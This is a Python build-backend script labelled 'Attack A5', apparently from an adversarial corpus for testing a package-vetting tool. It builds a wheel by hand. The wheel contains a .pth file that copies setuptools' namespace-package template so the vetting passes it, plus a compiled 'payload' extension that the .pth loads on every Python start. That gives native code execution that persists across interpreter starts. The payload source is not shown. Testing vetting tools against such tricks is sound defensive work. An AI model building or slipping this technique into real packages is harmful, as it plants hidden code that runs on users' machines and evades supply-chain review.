# Attack A5: a .pth that is exactly setuptools' namespace-package template
# (so the vetting calls it "setuptools namespace packages" and lets it
# through without --allow-pth), for a package whose name resolves, in
# site-packages, to a compiled extension module. The template's
# importlib.util.module_from_spec(PathFinder.find_spec(name, [sitedir]))
# loads an extension to create the module object: its init function, native
# code, runs at every Python start. The in-tree backend compiles payload.c
# and writes the wheel by hand; it runs nothing else.
import base64
import hashlib
import os
import shlex
import subprocess
import sysconfig
import tempfile
import zipfile

NAME, VERSION = "nspkg_so", "1.0"
DIST = "%s-%s.dist-info" % (NAME, VERSION)
HERE = os.path.dirname(os.path.abspath(__file__))


def nspkg_line(pkg):
    # setuptools' _gen_nspkg_line for a top-level package.
    return ";".join([
        "import sys, types, os",
        "has_mfs = sys.version_info > (3, 5)",
        "p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('%s',))" % pkg,
        "importlib = has_mfs and __import__('importlib.util')",
        "has_mfs and __import__('importlib.machinery')",
        "m = has_mfs and sys.modules.setdefault('%s', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('%s', [os.path.dirname(p)])))" % (pkg, pkg),
        "m = m or sys.modules.setdefault('%s', types.ModuleType('%s'))" % (pkg, pkg),
        "mp = (m or []) and m.__dict__.setdefault('__path__',[])",
        "(p not in mp) and mp.append(p)",
    ])


def compile_payload():
    cc = shlex.split(os.environ.get("CC") or sysconfig.get_config_var("CC") or "cc")
    out = os.path.join(tempfile.mkdtemp(), "payload.so")
    subprocess.check_call(cc + ["-shared", "-fPIC", "-O1", "-I", sysconfig.get_paths()["include"],
                                os.path.join(HERE, "payload.c"), "-o", out])
    with open(out, "rb") as f:
        return f.read()


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    files = {
        NAME + "-nspkg.pth": (nspkg_line(NAME) + "\n").encode(),
        NAME + sysconfig.get_config_var("EXT_SUFFIX"): compile_payload(),
        DIST + "/METADATA": ("Metadata-Version: 2.1\nName: %s\nVersion: %s\n" % (NAME, VERSION)).encode(),
        DIST + "/WHEEL": b"Wheel-Version: 1.0\nGenerator: corpus\nRoot-Is-Purelib: false\nTag: py3-none-any\n",
    }
    record = []
    for name, body in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(body).digest()).rstrip(b"=").decode()
        record.append("%s,sha256=%s,%d" % (name, digest, len(body)))
    record.append(DIST + "/RECORD,,")
    files[DIST + "/RECORD"] = ("\n".join(record) + "\n").encode()
    whl = "%s-%s-py3-none-any.whl" % (NAME, VERSION)
    with zipfile.ZipFile(os.path.join(wheel_directory, whl), "w") as z:
        for name, body in files.items():
            info = zipfile.ZipInfo(name)
            info.external_attr = 0o100644 << 16
            z.writestr(info, body)
    return whl
